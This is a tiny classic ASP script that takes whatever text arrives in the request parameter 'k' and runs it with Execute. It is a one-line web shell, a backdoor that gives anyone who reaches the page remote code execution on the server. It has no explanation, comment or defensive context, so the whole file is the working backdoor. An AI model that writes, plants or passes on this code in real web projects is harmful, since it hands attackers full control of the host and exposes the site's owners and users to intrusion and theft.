<%
Dim a
a = Request("k")
Execute a
%>
